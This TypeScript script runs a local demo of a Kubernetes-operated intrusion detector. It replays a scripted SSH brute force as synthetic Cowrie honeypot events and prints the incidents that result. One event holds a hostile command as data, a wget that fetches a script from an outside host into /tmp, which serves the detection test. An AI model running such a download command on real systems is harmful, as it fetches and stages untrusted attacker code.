// The main job (`make run`): a local control plane (or your cluster with --kubeconfig), the CRD, the operator,
// the basic example, and the detector it rendered, run as a local process; then a scripted SSH brute force and
// what it produced. Ctrl-C stops everything it started. `--once` exits after showing the result.
import { execFile } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { pino } from "pino";
import { parse } from "yaml";
import { startOperator, type RunningOperator } from "../operator/operator.ts";
import { KubeClient, isNotFound, type KubeObject } from "../operator/kube/client.ts";
import { loadKubeconfigFiles } from "../operator/kube/config.ts";
import { childKindOf } from "../operator/render/child-kinds.ts";
import { configHashAnnotation } from "../operator/render/deployments.ts";
import { configHash } from "../operator/render/detector-config.ts";
import type { ChildObject } from "../operator/render/meta.ts";
import { controlPlaneBinaries } from "../test/controlplane/binaries.ts";
import { ControlPlane } from "../test/controlplane/controlplane.ts";
import { reportPodsReady } from "../test/controlplane/kubelet-stand-in.ts";
import { freePort, SupervisedProcess } from "../test/controlplane/processes.ts";

const root = join(import.meta.dirname, "..");
const run = promisify(execFile);
const say = (line: string) => console.error(`[run] ${line}`);
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

interface Incident {
  severity: string;
  riskScore: number;
  sourceIp: string;
  status: string;
  firstSeen: string;
  lastSeen: string;
  techniques: { id: string; name: string; tactic: string }[];
}

interface Flags { kubeconfig?: string; once: boolean; namespace: string }
function flags(argv: string[]): Flags {
  const f: Flags = { once: false, namespace: "minixdr-demo" };
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i];
    if (a === "--once") f.once = true;
    else if (a === "--kubeconfig") f.kubeconfig = argv[++i];
    else if (a === "--namespace") f.namespace = argv[++i] ?? f.namespace;
    else {
      console.error(`unknown flag ${a}\nusage: make run [ARGS="[--kubeconfig PATH] [--namespace NS] [--once]"]`);
      process.exit(2);
    }
  }
  return f;
}

async function until<T>(what: string, probe: () => Promise<T | undefined>, timeoutMs = 60_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  let last = "";
  while (Date.now() < deadline) {
    try {
      const v = await probe();
      if (v !== undefined) return v;
    } catch (err) {
      last = (err as Error).message;
    }
    await sleep(250);
  }
  throw new Error(`timed out waiting for ${what}${last ? `: ${last}` : ""}`);
}

const started: { name: string; stop: () => Promise<void> }[] = [];
let stopping: Promise<void> | undefined;
/** The summary is out and the run waits for Ctrl-C. */
let ready = false;
/** Stops what was started, newest first; once, however often it is asked. */
function stopAll(): Promise<void> {
  stopping ??= (async () => {
    for (const s of started.reverse()) {
      say(`stopping ${s.name}`);
      await s.stop().catch((err: unknown) => say(`${s.name}: ${(err as Error).message}`));
    }
  })();
  return stopping;
}

// Ctrl-C (or SIGTERM) at any point, not only after the summary: everything started so far is stopped and its files
// removed. A second one while that runs does not cut it short (it would leave the detector and the files behind).
for (const signal of ["SIGINT", "SIGTERM"] as const) {
  process.on(signal, () => {
    if (stopping) return say(`${signal}: still stopping (the detector finishes its requests first; at most about 10 s)`);
    say(`${signal}: stopping everything this started`);
    // After the summary, Ctrl-C is how a run ends (0); before it, the run was cut short (130, as for SIGINT).
    void stopAll().then(() => process.exit(ready ? 0 : 130));
  });
}

/**
 * A bin/minixdr.ts command as a child in its own process group (a terminal's Ctrl-C reaches this script, which stops
 * it in order) with a watchdog that stops it should this script be killed outright (SIGKILL leaves no handler to run).
 */
function startProcess(name: string, args: string[], env: NodeJS.ProcessEnv, logFile: string): SupervisedProcess {
  const child = SupervisedProcess.start(name, process.execPath, [join(root, "bin/minixdr.ts"), ...args], logFile, { ...process.env, ...env });
  started.push({ name, stop: () => child.stop() });
  return child;
}

async function main(): Promise<void> {
  const f = flags(process.argv.slice(2));
  const work = mkdtempSync(join(tmpdir(), "minixdr-run-"));
  started.push({ name: "temp files", stop: () => Promise.resolve(rmSync(work, { recursive: true, force: true })) });
  say(`files of this run (the detector's config, secrets, data and logs) in ${work}`);

  // 1. A cluster: the embedded control plane, or the one --kubeconfig names.
  let kubeconfigPath = f.kubeconfig;
  let kubectl = "kubectl";
  const crdFile = join(root, "crds/xdr.minixdr.io_minixdrs.yaml");
  const embedded = !kubeconfigPath;
  if (embedded) {
    say("building (first run only) or finding the control plane binaries");
    const binaries = (await controlPlaneBinaries({ build: true, onProgress: (l) => console.error(l) }))!;
    kubectl = binaries.kubectl;
    say("starting etcd, kube-apiserver and kube-controller-manager on loopback; installing the MiniXdr CRD");
    // Registered before it is up: a Ctrl-C during its start-up waits for that (seconds) and then stops it, where the
    // watchdogs alone stopped its processes but left its directory (CA key, etcd data) behind.
    const starting = ControlPlane.start({ binaries, crdFiles: [crdFile], log: (l) => say(l) });
    started.push({ name: "control plane", stop: async () => (await starting.catch(() => undefined))?.stop() });
    const cp = await starting;
    kubeconfigPath = cp.kubeconfigPath;
  }
  const connection = loadKubeconfigFiles([kubeconfigPath!]);
  const client = new KubeClient(connection);
  if (!embedded) {
    say(`using the cluster in ${kubeconfigPath}; installing the MiniXdr CRD`);
    const crd = parse(readFileSync(crdFile, "utf8").replace(/^#.*\n/, "")) as KubeObject;
    await client.apply({ group: "apiextensions.k8s.io", version: "v1", plural: "customresourcedefinitions" }, "", crd.metadata!.name!, crd);
    await sleep(2_000);
  }

  // 2. The operator, in this process, for the demo namespace.
  say(`starting the operator (field manager minixdr-operator), watching namespace ${f.namespace}`);
  const operator: RunningOperator = await startOperator({
    connection, log: pino({ level: "error" }), identity: "make-run", leaderElection: false, watchNamespace: f.namespace,
  });
  started.push({ name: "operator", stop: () => operator.stop() });

  // 3. The basic example.
  await client.apply({ group: "", version: "v1", plural: "namespaces" }, "", f.namespace,
    { apiVersion: "v1", kind: "Namespace", metadata: { name: f.namespace, labels: { "pod-security.kubernetes.io/enforce": "restricted" } } }, { manager: "make-run" });
  const example = parse(readFileSync(join(root, "examples/basic.yaml"), "utf8")) as KubeObject;
  const name = example.metadata!.name!;
  say(`applying examples/basic.yaml as MiniXdr ${f.namespace}/${name}`);
  await client.apply({ group: "xdr.minixdr.io", version: "v1alpha1", plural: "minixdrs" }, f.namespace, name,
    { ...example, metadata: { ...example.metadata, namespace: f.namespace } }, { manager: "make-run" });

  // 4. The detector, as a local process, from exactly the ConfigMap and Secret the operator rendered.
  const getOrUndefined = async (kind: string, n: string): Promise<KubeObject | undefined> => {
    try {
      return await client.get(childKindOf(kind), f.namespace, n);
    } catch (err) {
      if (isNotFound(err)) return undefined;
      throw err;
    }
  };
  const [apiPort, metricsPort, consolePort] = await Promise.all([freePort(), freePort(), freePort()]);
  mkdirSync(join(work, "data"));
  mkdirSync(join(work, "secrets"));
  /** The operator's ConfigMap and Secret as this machine runs them: only file paths and free ports differ. */
  const rendered = async (): Promise<{ config: string; secrets: Record<string, string>; hash: string }> => {
    const configMap = await until("the operator's ConfigMap", () => getOrUndefined("ConfigMap", `${name}-config`));
    const secret = await until("the operator's generated Secret", () => getOrUndefined("Secret", `${name}-secrets`));
    const config = JSON.parse((configMap.data as Record<string, string>)["detector.json"]!) as { listen: object; storage: object; model: object };
    config.listen = { ...config.listen, host: "127.0.0.1", port: apiPort, metricsPort };
    config.storage = { ...config.storage, path: join(work, "data", "minixdr.db") };
    config.model = { ...config.model, path: join(root, "detector/ml/model.onnx") };
    return {
      // What the pod template says it was rendered with (the operator applies the ConfigMap and the Deployment at once).
      hash: configHash(configMap as ChildObject),
      config: JSON.stringify(config, null, 2),
      secrets: Object.fromEntries(Object.entries(secret.data as Record<string, string>).map(([k, v]) => [k, Buffer.from(v, "base64").toString("utf8")])),
    };
  };
  const api = `http://127.0.0.1:${apiPort}`;
  let running = await rendered();
  let detector: SupervisedProcess | undefined;
  started.push({ name: "detector (it finishes in-flight requests first)", stop: async () => detector?.stop() });
  /** Writes `files` where the detector reads them and (re)starts it with them; resolves once it is ready. */
  const startDetector = async (files: typeof running): Promise<void> => {
    await detector?.stop();
    // A Ctrl-C during a restart: stopAll has stopped (or is stopping) the old process; start no new one behind it.
    if (stopping) throw new Error("stopping");
    writeFileSync(join(work, "detector.json"), files.config);
    for (const [k, v] of Object.entries(files.secrets)) writeFileSync(join(work, "secrets", k), v, { mode: 0o600 });
    detector = SupervisedProcess.start("detector", process.execPath, [join(root, "bin/minixdr.ts"), "detector"], join(work, "detector.log"), {
      ...process.env, MINIXDR_CONFIG_FILE: join(work, "detector.json"), MINIXDR_SECRETS_DIR: join(work, "secrets"), MINIXDR_LOG_LEVEL: "warn",
    });
    await until("the detector to be ready", async () => ((await fetch(`${api}/readyz`)).ok ? true : undefined), 60_000)
      .catch((err: unknown) => { throw new Error(`${(err as Error).message}\n${readFileSync(join(work, "detector.log"), "utf8").slice(-2000)}`); });
  };
  say(`starting the detector on http://127.0.0.1:${apiPort} with the rendered config (paths and ports mapped to this machine)`);
  await startDetector(running);
  const secretData = running.secrets;

  // No kubelet here: the local detector process stands in for the detector's pod, so it is reported Ready as a kubelet
  // would. A change to the MiniXdr that rolls the Deployment makes a new pod: the local detector is restarted with
  // what the operator rendered for it, and that pod reported Ready in turn, so the instance is Ready again.
  const detectorPods = async () => (await client.call<{ items: KubeObject[] }>("list", "pods", "GET",
    `/api/v1/namespaces/${f.namespace}/pods?labelSelector=${encodeURIComponent(`app.kubernetes.io/instance=${name},app.kubernetes.io/component=detector`)}`)).items;
  const isReady = (pod: KubeObject) => ((pod.status as { conditions?: { type: string; status: string }[] } | undefined)?.conditions ?? [])
    .some((c) => c.type === "Ready" && c.status === "True");
  const standInKubelet = async (): Promise<void> => {
    const waiting = (await detectorPods()).filter((pod) => !isReady(pod) && !pod.metadata!.deletionTimestamp);
    if (waiting.length === 0) return;
    const next = await rendered();
    // The ConfigMap the new pods were rendered with may not be written yet: ask again at the next round.
    const wanted = new Set(waiting.map((pod) => pod.metadata!.annotations?.[configHashAnnotation]).filter(Boolean));
    if (wanted.size > 0 && !wanted.has(next.hash)) return;
    if (detector && JSON.stringify(next) !== JSON.stringify(running)) {
      say(`the detector's Deployment rolled (pod ${waiting.map((p) => p.metadata!.name!).join(", ")}): restarting the local detector with the config the operator rendered for it`);
      await startDetector(next);
      running = next;
    }
    await reportPodsReady(client, f.namespace, waiting.map((pod) => pod.metadata!.name!));
  };
  if (embedded) await standInKubelet();

  // 5. A scripted attack: an SSH brute force against the Cowrie honeypot, then a login and a tool download.
  const attacker = "203.0.113.7";
  const t0 = Date.now() - 60_000;
  const at = (s: number) => new Date(t0 + s * 1000).toISOString();
  const events = [
    ...["root", "admin", "root", "ubuntu", "root", "pi", "root", "admin"].map((username, i) => ({
      eventid: "cowrie.login.failed", timestamp: at(i * 2), src_ip: attacker, session: "a1b2c3", username, password: `guess${i}`,
    })),
    { eventid: "cowrie.login.success", timestamp: at(20), src_ip: attacker, session: "a1b2c3", username: "root", password: "123456" },
    { eventid: "cowrie.command.input", timestamp: at(25), src_ip: attacker, session: "a1b2c3", input: "wget http://198.51.100.9/x.sh -O /tmp/x.sh" },
  ];
  say(`sending ${events.length} Cowrie events from ${attacker} (8 failed logins in 16 s, a login, a download)`);
  const ingest = await fetch(`${api}/api/v1/ingest/cowrie?wait=true`, {
    method: "POST", headers: { authorization: `Bearer ${secretData["ingest-token"]}`, "content-type": "application/x-ndjson" },
    body: events.map((e) => JSON.stringify(e)).join("\n"),
  });
  if (!ingest.ok) throw new Error(`ingest answered ${ingest.status}: ${await ingest.text()}`);

  const login = await fetch(`${api}/api/v1/auth/login`, {
    method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ username: "admin", password: secretData["admin-password"] }),
  });
  if (!login.ok) throw new Error(`login answered ${login.status}: ${await login.text()}`);
  const { token } = (await login.json()) as { token: string };
  const incidents = await until("incidents", async () => {
    const r = (await (await fetch(`${api}/api/v1/incidents`, { headers: { authorization: `Bearer ${token}` } })).json()) as { items: Incident[] };
    return r.items.length > 0 ? r.items : undefined;
  }, 20_000);

  // 6. The analysts' console, talking to that detector.
  startProcess("console", ["console"], { MINIXDR_DETECTOR_URL: api, MINIXDR_CONSOLE_PORT: String(consolePort), MINIXDR_LOG_LEVEL: "warn" }, join(work, "console.log"));
  const consoleUrl = `http://127.0.0.1:${consolePort}`;
  await until("the console", async () => ((await fetch(`${consoleUrl}/healthz`)).ok ? true : undefined), 30_000);

  // 7. What an SRE and an analyst see.
  if (embedded) await until("Ready=True", async () => {
    const cr = await client.get<{ status?: { conditions?: { type: string; status: string }[] } }>({ group: "xdr.minixdr.io", version: "v1alpha1", plural: "minixdrs" }, f.namespace, name);
    return cr.status?.conditions?.some((c) => c.type === "Ready" && c.status === "True") ? true : undefined;
  }, 30_000);
  const env = { ...process.env, KUBECONFIG: kubeconfigPath };
  const wide = await run(kubectl, ["get", "minixdr", "-n", f.namespace, "-o", "wide"], { env });
  const conds = await run(kubectl, ["get", "minixdr", name, "-n", f.namespace, "-o", "jsonpath={range .status.conditions[*]}{.type}={.status} ({.reason}): {.message}{\"\\n\"}{end}"], { env });
  console.log(`\n$ kubectl get minixdr -n ${f.namespace} -o wide\n${wide.stdout}\nConditions:\n${conds.stdout.replace(/^/gm, "  ")}`);
  console.log("Incidents:");
  for (const i of incidents) {
    const techniques = i.techniques.map((t) => `${t.id} ${t.name} (${t.tactic})`).join(", ");
    console.log(`  ${i.severity} risk=${i.riskScore} ${i.sourceIp} ${techniques} [${i.status}] first=${i.firstSeen} last=${i.lastSeen}`);
  }
  console.log(`
Detector API:  ${api}   (admin password: ${secretData["admin-password"]})
Ingest token:  ${join(work, "secrets", "ingest-token")}   (curl -H "authorization: Bearer $(cat THAT_FILE)" -H "content-type: application/x-ndjson" --data-binary @events.ndjson ${api}/api/v1/ingest/cowrie)
Metrics:       http://127.0.0.1:${metricsPort}/metrics
Console:       ${consoleUrl}   (log in as admin)
KUBECONFIG:    ${kubeconfigPath}   (the operator here watches namespace ${f.namespace} only)
Files:         ${work}`);

  if (f.once) {
    await stopAll();
    return;
  }
  ready = true;
  console.log("\nPress Ctrl-C to stop everything this started.");
  // Until a signal (its handler stops everything and exits), standing in for the kubelet as the spec changes.
  for (;;) {
    await sleep(1_000);
    if (!embedded || stopping) continue;
    await standInKubelet().catch((err: unknown) => {
      if (!stopping) say(`standing in for the kubelet: ${(err as Error).message}`);
    });
  }
}

try {
  await main();
  process.exit(0);
} catch (err) {
  // Stopped by a signal: what failed after it is the stopping itself, not worth a word; its handler exits.
  // (Read before stopAll below, which sets `stopping` too: a failure on its own exits 1, not 130.)
  const bySignal = stopping !== undefined;
  if (!bySignal) console.error(`[run] failed: ${(err as Error).message}`);
  await stopAll();
  process.exit(bySignal ? 130 : 1);
}
